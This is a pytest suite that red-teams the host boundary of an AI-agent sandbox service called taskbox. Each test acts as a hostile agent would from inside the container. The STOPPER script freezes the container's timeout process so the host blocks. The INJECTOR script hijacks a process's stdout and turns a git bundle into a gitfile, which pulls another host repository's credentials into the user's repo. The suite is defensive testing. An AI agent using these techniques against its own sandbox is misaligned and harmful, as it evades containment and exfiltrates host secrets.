"""Review attacks on the host boundary (branch `attack`).

Each test acts only as an agent could (commands in the task's container, the task's own
tool calls) and asserts on the HOST. A test that fails here is a finding.
"""

from __future__ import annotations

import dataclasses
import os
import threading
import time
from pathlib import Path

import pytest

from taskbox import TaskboxError, TaskService

from .conftest import git


@pytest.fixture
def task(svc: TaskService, repo: Path):
    return svc.create_task(repo, "attacker")


def only_taskbox_errors(fn, *args, **kwargs):
    """Call ``fn``; any exception must be a TaskboxError ("one line per error")."""
    try:
        return fn(*args, **kwargs)
    except TaskboxError as exc:
        return exc
    except Exception as exc:  # noqa: BLE001 - the finding
        pytest.fail(f"non-taskbox exception reached the caller: {type(exc).__name__}: {exc}")


def returns_within(seconds: float, fn, *args, unblock=None, **kwargs):
    """Run ``fn`` in a thread; fail if it has not returned after ``seconds`` (then ``unblock``)."""
    box: dict = {}

    def run() -> None:
        try:
            box["value"] = fn(*args, **kwargs)
        except BaseException as exc:  # noqa: BLE001
            box["error"] = exc

    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(seconds)
    hung = t.is_alive()
    if hung and unblock is not None:
        unblock()
        t.join(30)
    assert not hung, f"{getattr(fn, '__name__', fn)} blocked the host for more than {seconds}s"
    return box


# --- raw OS errors reaching the caller -----------------------------------------------------------


def test_long_component_in_write_file(svc: TaskService, task) -> None:
    only_taskbox_errors(svc.write_file, task.id, "a" * 300 + "/x.txt", b"x")


def test_long_final_name_in_write_file(svc: TaskService, task) -> None:
    only_taskbox_errors(svc.write_file, task.id, "b" * 300, b"x")


def test_long_final_name_in_delete_file(svc: TaskService, task) -> None:
    only_taskbox_errors(svc.delete_file, task.id, "c" * 300)


def test_unix_socket_read(svc: TaskService, task) -> None:
    r = svc.exec(task.id, "python3 -c \"import socket,os; s=socket.socket(socket.AF_UNIX); s.bind('sock')\"; ls -l sock")
    assert r.exit_code == 0, r.stderr
    only_taskbox_errors(svc.read_file, task.id, "sock")
    only_taskbox_errors(svc.read_text, task.id, "sock")
    only_taskbox_errors(svc.edit_file, task.id, "sock", "a", "b")


def test_unix_socket_as_memory_log(svc: TaskService, task) -> None:
    r = svc.exec(task.id, "cd .task-memory && rm -f conversations.jsonl && python3 -c \"import socket; "
                          "socket.socket(socket.AF_UNIX).bind('conversations.jsonl')\"")
    assert r.exit_code == 0, r.stderr
    only_taskbox_errors(svc.update_todos, task.id, [{"text": "x"}])
    only_taskbox_errors(svc.history, task.id)


def test_directory_as_memory_log(svc: TaskService, task) -> None:
    r = svc.exec(task.id, "cd .task-memory && rm -f conversations.jsonl decisions.md && "
                          "mkdir conversations.jsonl decisions.md")
    assert r.exit_code == 0, r.stderr
    only_taskbox_errors(svc.update_todos, task.id, [{"text": "x"}])
    only_taskbox_errors(svc.log_decision, task.id, "decide")


def test_fifo_as_memory_log_does_not_block_the_host(svc: TaskService, task) -> None:
    ws = Path(task.workspace_path)
    def unblock() -> None:  # open the fifos for reading from the host so the thread can finish
        for name in ("executions.jsonl", "conversations.jsonl"):
            try:
                fd = os.open(ws / ".task-memory" / name, os.O_RDONLY | os.O_NONBLOCK)
                time.sleep(0.5)
                os.close(fd)
            except OSError:
                pass

    # the agent's own command that makes the fifos: taskbox then logs it into one of them
    box = returns_within(15, svc.exec, task.id, "cd .task-memory && rm -f executions.jsonl conversations.jsonl"
                         " && mkfifo executions.jsonl conversations.jsonl", unblock=unblock)
    assert "error" not in box or isinstance(box["error"], TaskboxError), box
    returns_within(15, svc.exec, task.id, "true", unblock=unblock)
    returns_within(15, svc.log_decision, task.id, "x", unblock=unblock)  # decisions.md untouched: control
    returns_within(15, svc.update_todos, task.id, [{"text": "x"}], unblock=unblock)


# --- capture has no host-side deadline ---------------------------------------------------------

STOPPER = r"""
cat > /tmp/stopper.sh <<'EOS'
pat="hooks""Path=/dev/null"
while :; do
  for p in $(pgrep -x timeout); do
    tr '\0' ' ' < /proc/$p/cmdline 2>/dev/null | grep -q "$pat" && kill -STOP $p
  done
done
EOS
nohup setsid sh /tmp/stopper.sh >/dev/null 2>&1 &
echo started
"""


def test_agent_stopping_the_in_container_timeout_does_not_hang_the_host(svc: TaskService, task) -> None:
    """capture() relies on `timeout` inside the container, a process the agent (same uid) can SIGSTOP."""
    svc.settings = dataclasses.replace(svc.settings, sandbox_git_timeout=20)  # the host deadline: 30 s
    svc.exec(task.id, "echo change >> README.md")
    assert "started" in svc.exec(task.id, STOPPER).stdout
    time.sleep(0.5)
    cid = task.container_id or svc.get(task.id).container_id

    def unblock() -> None:
        api = svc.sandbox.api
        eid = api.exec_create(cid, ["sh", "-c", "pkill -f stopper.sh; pkill -CONT timeout; true"], user="1000:1000")["Id"]
        api.exec_start(eid)

    returns_within(60, svc.sync, task.id, unblock=unblock)


# --- the bundle file's bytes are the agent's: a gitfile instead of a bundle ------------------

INJECTOR = r'''
import os, signal, subprocess, sys
target = sys.argv[1].encode()
host = next(l.split()[3] for l in open("/proc/self/mountinfo") if l.split()[4] == "/workspace")
me = os.getpid()
seen = set()
while True:
    for d in os.listdir("/proc"):
        if not d.isdigit() or int(d) == me or d in seen:
            continue
        try:
            cmd = open(f"/proc/{d}/cmdline", "rb").read()
        except OSError:
            continue
        if not cmd.startswith(b"sh\0-c\0") or b"bundle create" not in cmd:
            continue
        pid = int(d)
        seen.add(d)
        os.kill(pid, signal.SIGSTOP)  # before it writes a byte
        try:
            argv = cmd.split(b"\0")[:-1]
            out = subprocess.run(argv, capture_output=True, cwd="/workspace").stdout  # the same bundle
            suffix = out[:out.index(b"\0")]  # the bundle's text header, up to "PACK"
            link = b"/workspace/trap/" + suffix
            os.makedirs(os.path.dirname(link), exist_ok=True)
            if os.path.lexists(link):
                os.unlink(link)
            os.symlink(target, link)  # gitdir = prefix + header: resolved by the HOST's git, as root
            with open(f"/proc/{pid}/fd/1", "wb") as f:
                f.write(b"gitdir: " + host.encode() + b"/trap/")
            open("/tmp/injected", "a").write(f"{pid}\n")
        finally:
            os.kill(pid, signal.SIGCONT)
'''


def test_bundle_replaced_by_a_gitfile_to_another_host_repository(svc: TaskService, task, repo: Path,
                                                                 tmp_path: Path) -> None:
    """An agent process writes into the bundle exec's stdout pipe (/proc/PID/fd/1, same uid).

    The file the host fetches from then starts with ``gitdir: <workspace>/trap/`` and the
    real bundle's header completes the path up to its first NUL; the agent plants a link
    there to another repository on the host (root-owned, so no dubious-ownership stop).
    Host ``git fetch`` sees no bundle signature, takes the file for a gitfile, follows the
    agent's link as root and runs upload-pack in that repository.
    """
    other = tmp_path / "other-project"  # another project of the same user on this host
    other.mkdir()
    git(other, "init", "-q", "-b", "main")
    (other / "credentials.txt").write_text("HOST-SECRET-of-another-project\n")
    git(other, "add", ".")
    git(other, "commit", "-qm", "secret")
    git(other, "branch", task.branch)  # e.g. an earlier task of the same name there
    secret = git(other, "rev-parse", "HEAD").strip()
    svc.exec(task.id, f"cat > /tmp/inj.py <<'EOF'\n{INJECTOR}\nEOF\n"
                      f"nohup setsid python3 /tmp/inj.py {other}/.git >/tmp/inj.log 2>&1 &\necho ok")
    time.sleep(1)
    errors = []
    for i in range(3):
        svc.exec(task.id, f"echo change{i} >> README.md")
        try:
            svc.sync(task.id)
        except TaskboxError as exc:
            errors.append(str(exc))
    injected = svc.exec(task.id, "cat /tmp/injected /tmp/inj.log 2>&1").stdout
    leaked = git(repo, "cat-file", "-t", secret).strip() if subprocess_ok(repo, secret) else ""
    import subprocess
    tip = subprocess.run(["git", "rev-parse", "--verify", "--quiet", task.branch], cwd=repo,
                         capture_output=True, text=True).stdout.strip()  # absent if every sync was refused
    assert not leaked and tip != secret, (
        f"another host repository was fetched into the user's repo (tip {tip[:12]}, secret {secret[:12]}); "
        f"injections: {injected!r}; errors: {errors}")


def subprocess_ok(repo: Path, sha: str) -> bool:
    import subprocess
    return subprocess.run(["git", "cat-file", "-e", sha], cwd=repo).returncode == 0


# --- non-UTF-8 names through the real MCP server ---------------------------------------------


def test_mcp_listing_a_non_utf8_name(svc: TaskService, repo: Path) -> None:
    import sys

    import anyio
    from mcp import Client
    from mcp.client.stdio import StdioServerParameters

    async def main() -> list[str]:
        seen = []
        async with Client(StdioServerParameters(command=sys.executable, args=["-m", "taskbox", "mcp"],
                                                env=dict(os.environ))) as client:
            made = await client.call_tool("create_task_sandbox", {"task_id": "mcp-names", "task_description": "x",
                                                                  "workspace_path": str(repo)})
            assert not made.is_error
            await client.call_tool("execute_in_task", {"task_id": "mcp-names",
                                                       "command": "touch \"$(printf 'bad\\377name')\""})
            with anyio.fail_after(30):
                res = await client.call_tool("list_task_files", {"task_id": "mcp-names"})
            seen.append(res.content[0].text if res.content else "")
            with anyio.fail_after(30):  # the server still answers afterwards
                res2 = await client.call_tool("list_task_files", {"task_id": "mcp-names", "path": ".task-memory"})
            assert not res2.is_error, res2.content
        return seen

    out = anyio.run(main)
    assert "bad" in out[0], out
